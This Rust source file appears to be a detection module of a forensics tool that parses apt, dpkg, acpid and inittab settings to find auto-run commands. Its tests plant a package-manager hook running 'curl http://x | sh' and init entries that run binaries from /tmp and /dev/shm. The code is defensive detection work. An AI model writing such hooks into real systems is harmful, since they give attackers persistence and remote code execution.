//! Settings that have the package manager, the power button or init run something (`apt.conf(5)`, `dpkg(1)`, `acpid(8)`,
//! `inittab(5)`).
//!
//! ```text
//! DPkg::Post-Invoke { "/usr/bin/x || true"; };       /etc/apt/apt.conf.d/x
//! post-invoke=/usr/bin/x                             /etc/dpkg/dpkg.cfg.d/x
//! event=button/power                                 /etc/acpi/events/x
//! action=/etc/acpi/x.sh
//! x:2345:respawn:/sbin/x                             /etc/inittab
//! ```

use super::command;
use super::{CAP, Entry, content, is_void, place_of, push};
use crate::extract::Extractor;
use crate::extract::input::Input;
use crate::model::autostart::AutostartKind;
use crate::model::facts::Harvest;
use crate::model::interest::{Ask, Interest};
use crate::model::path::TargetPath;

/// The row.
pub const EXTRACTOR: Extractor = Extractor {
    interest: Interest {
        id: "autostart-events",
        sentence: "Settings that have the package manager, the power button or init run something.",
        ask: Ask::Starts("event"),
    },
    cap: CAP,
    read,
};

/// How the settings are written.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum Form {
    /// `Scope::Name { "value"; };`.
    Apt,
    /// `name=value` or `name value`.
    Dpkg,
    /// `name=value`.
    Acpi,
    /// Four fields, parted by colons.
    Init,
}

fn read(input: &Input<'_>) -> Harvest {
    let mut harvest = Harvest::default();
    if place_of(input, "event").is_none() || is_void(input) {
        return harvest;
    }
    let Some(content) = content(input, &mut harvest) else { return harvest };
    let form = form(&input.candidate.path);
    for run in parse(form, &content.bytes) {
        let entry = Entry {
            line: Some(run.line),
            told: command::of_script(&run.command).at(run.line),
            command: run.command,
            trigger: run.trigger,
            is_whole_file: false,
            ..Entry::new(
                if form == Form::Init { AutostartKind::InitScript } else { AutostartKind::EventScript },
                input.candidate.name,
            )
        };
        push(input, &content, entry, &mut harvest);
    }
    harvest
}

fn form(path: &TargetPath) -> Form {
    let has = |name: &[u8]| path.components().any(|one| one.eq_ignore_ascii_case(name));
    match () {
        () if has(b"apt") => Form::Apt,
        () if has(b"acpi") => Form::Acpi,
        () if has(b"inittab") || has(b"inittab.d") => Form::Init,
        () => Form::Dpkg,
    }
}

/// One thing that is run.
#[derive(PartialEq, Eq, Debug)]
pub struct Run {
    /// Counted from 1.
    pub line: u32,
    /// The setting, or the event.
    pub trigger: Vec<u8>,
    /// What.
    pub command: Vec<u8>,
}

/// What a file has run.
#[must_use]
pub fn parse(form: Form, bytes: &[u8]) -> Vec<Run> {
    match form {
        Form::Apt => apt(bytes),
        Form::Dpkg => lines(bytes, dpkg),
        Form::Acpi => acpi(bytes),
        Form::Init => lines(bytes, init),
    }
}

/// When and what a line runs.
type Said = (Vec<u8>, Vec<u8>);

fn lines(bytes: &[u8], each: fn(&[u8]) -> Option<Said>) -> Vec<Run> {
    let parse = |(line, text): (u32, &[u8])| {
        let text = text.trim_ascii();
        let (trigger, command) = each(text).filter(|_| !text.starts_with(b"#"))?;
        (!command.is_empty()).then_some(Run { line, trigger, command })
    };
    (1..).zip(bytes.split(|byte| *byte == b'\n')).filter_map(parse).collect()
}

fn dpkg(text: &[u8]) -> Option<Said> {
    let end = text.iter().position(|byte| *byte == b'=' || byte.is_ascii_whitespace())?;
    let (key, value) = text.split_at(end);
    let key = key.strip_prefix(b"--").unwrap_or(key);
    let value = value.get(1..)?.trim_ascii();
    let value = value.strip_prefix(b"\"").and_then(|rest| rest.strip_suffix(b"\"")).unwrap_or(value);
    let is_one = matches!(key, b"pre-invoke" | b"post-invoke" | b"status-logger");
    is_one.then(|| (key.to_vec(), value.to_vec()))
}

fn acpi(bytes: &[u8]) -> Vec<Run> {
    let value = |text: &[u8], name: &[u8]| {
        let rest = text.strip_prefix(name)?.trim_ascii_start();
        rest.strip_prefix(b"=").map(|value| value.trim_ascii().to_vec())
    };
    let texts = || bytes.split(|byte| *byte == b'\n').map(<[u8]>::trim_ascii);
    let event = texts().find_map(|text| value(text, b"event")).unwrap_or_default();
    let runs = (1..).zip(texts()).filter_map(|(line, text)| {
        let command = value(text, b"action").filter(|command| !command.is_empty())?;
        Some(Run { line, trigger: event.clone(), command })
    });
    runs.collect()
}

fn init(text: &[u8]) -> Option<Said> {
    let mut fields = text.splitn(4, |byte| *byte == b':');
    let (_, levels, action, process) = (fields.next()?, fields.next()?, fields.next()?, fields.next()?);
    let is_off = matches!(action, b"off" | b"initdefault");
    let trigger = if levels.is_empty() { action.to_vec() } else { [action, b", runlevels ", levels].concat() };
    let process = process.strip_prefix(b"+").unwrap_or(process);
    (!is_off).then(|| (trigger, process.trim_ascii().to_vec()))
}

/// Settings of apt whose values are commands end so, in lower case.
const COMMANDS: &[&str] = &["invoke", "invoke-success", "pre-install-pkgs", "proxy-auto-detect", "proxyautodetect"];

/// A piece of `apt.conf`.
enum Token {
    Word(Vec<u8>),
    Text(Vec<u8>),
    Open,
    Close,
    End,
}

fn apt(bytes: &[u8]) -> Vec<Run> {
    let mut out = Vec::new();
    let mut scopes: Vec<Vec<u8>> = Vec::new();
    let mut name: Vec<u8> = Vec::new();
    let mut reader = Apt { rest: bytes, line: 1 };
    while let Some((line, token)) = reader.next() {
        match token {
            Token::Word(word) => name = word,
            // Deeper than this nothing honest goes; what closes it is then one too many, which is passed over.
            Token::Open if scopes.len() < 64 => scopes.push(std::mem::take(&mut name)),
            Token::Open => name.clear(),
            Token::Close => drop(scopes.pop()),
            Token::End => name.clear(),
            Token::Text(command) => {
                let parts: Vec<&[u8]> = scopes.iter().chain([&name]).map(Vec::as_slice).collect();
                let parts: Vec<&[u8]> = parts.into_iter().filter(|part| !part.is_empty()).collect();
                let whole = parts.join(b"::".as_slice());
                let last = whole.strip_suffix(b"::").unwrap_or(&whole).to_ascii_lowercase();
                if COMMANDS.iter().any(|end| last.ends_with(end.as_bytes())) && !command.is_empty() {
                    out.push(Run { line, trigger: whole, command });
                }
            }
        }
    }
    out
}

struct Apt<'a> {
    rest: &'a [u8],
    line: u32,
}

impl Apt<'_> {
    fn skip(&mut self, count: usize) {
        let (head, tail) = self.rest.split_at(count.min(self.rest.len()));
        let lines = head.iter().filter(|byte| **byte == b'\n').count();
        self.line = self.line.saturating_add(u32::try_from(lines).unwrap_or(u32::MAX));
        self.rest = tail;
    }

    fn skip_to(&mut self, end: &[u8]) {
        let at = memchr::memmem::find(self.rest, end).map_or(self.rest.len(), |at| at + end.len());
        self.skip(at);
    }

    fn next(&mut self) -> Option<(u32, Token)> {
        loop {
            let line = self.line;
            let token = match self.rest.first()? {
                b'{' => Token::Open,
                b'}' => Token::Close,
                b';' => Token::End,
                b'"' => {
                    self.skip(1);
                    let length = self.rest.iter().position(|byte| *byte == b'"').unwrap_or(self.rest.len());
                    let text = self.rest.get(..length).unwrap_or_default().to_vec();
                    self.skip(length + 1);
                    return Some((line, Token::Text(text)));
                }
                b'#' => {
                    self.skip_to(b"\n");
                    continue;
                }
                b'/' if self.rest.starts_with(b"//") => {
                    self.skip_to(b"\n");
                    continue;
                }
                b'/' if self.rest.starts_with(b"/*") => {
                    self.skip_to(b"*/");
                    continue;
                }
                byte if byte.is_ascii_whitespace() => {
                    self.skip(1);
                    continue;
                }
                _ => {
                    let ends = |byte: &u8| byte.is_ascii_whitespace() || b"{};\"".contains(byte);
                    let length = self.rest.iter().position(ends).unwrap_or(self.rest.len());
                    let word = self.rest.get(..length).unwrap_or_default().to_vec();
                    self.skip(length);
                    return Some((line, Token::Word(word)));
                }
            };
            self.skip(1);
            return Some((line, token));
        }
    }
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;
    use crate::extract::autostart::planted::Tree;
    use crate::model::host::Platform;

    fn told(path: &str, text: &str) -> Vec<String> {
        Tree::with(&[(path, text.as_bytes())]).told(&EXTRACTOR, Platform::Linux, path)
    }

    #[test]
    fn apt_and_dpkg_run_commands() {
        let text = "// c\nAPT::Update::Post-Invoke-Success:: \"/tmp/x &\";\nDPkg { /* y */ Pre-Install-Pkgs { \"/usr/sbin/a || true\"; \
            \"curl http://x | sh\"; }; Options { \"--force\"; }; };\nAcquire::http::Proxy \"http://p\";\n";
        assert_eq!(
            told("/etc/apt/apt.conf.d/99x", text),
            [
                "EventScript 99x | runs /tmp/x & | when APT::Update::Post-Invoke-Success:: | Program /tmp/x Temporary | RunsUnseen",
                "EventScript 99x | runs /usr/sbin/a || true | when DPkg::Pre-Install-Pkgs | Program /usr/sbin/a",
                "EventScript 99x | runs curl http://x | sh | when DPkg::Pre-Install-Pkgs | FetchesAndRuns",
            ]
        );
        assert_eq!(
            told("/etc/dpkg/dpkg.cfg.d/x", "# c\nno-debsig\npost-invoke=\"/opt/x\"\n"),
            ["EventScript x | runs /opt/x | when post-invoke | Program /opt/x"]
        );
    }

    #[test]
    fn buttons_and_init_run_commands() {
        assert_eq!(
            told("/etc/acpi/events/power", "event=button/power\naction=/etc/acpi/x.sh %e\n"),
            ["EventScript power | runs /etc/acpi/x.sh %e | when button/power | Program /etc/acpi/x.sh"]
        );
        assert_eq!(
            told("/etc/inittab", "id:3:initdefault:\n::sysinit:/sbin/openrc sysinit\n# x\nx:2345:respawn:/dev/shm/x\n"),
            [
                "InitScript inittab | runs /sbin/openrc sysinit | when sysinit | Program /sbin/openrc",
                "InitScript inittab | runs /dev/shm/x | when respawn, runlevels 2345 | Program /dev/shm/x Temporary",
            ]
        );
    }

    proptest! {
        #[test]
        fn any_bytes_are_read(bytes in prop::collection::vec(any::<u8>(), 0..300)) {
            for form in [Form::Apt, Form::Dpkg, Form::Acpi, Form::Init] {
                prop_assert!(parse(form, &bytes).len() <= bytes.len());
            }
        }
    }
}
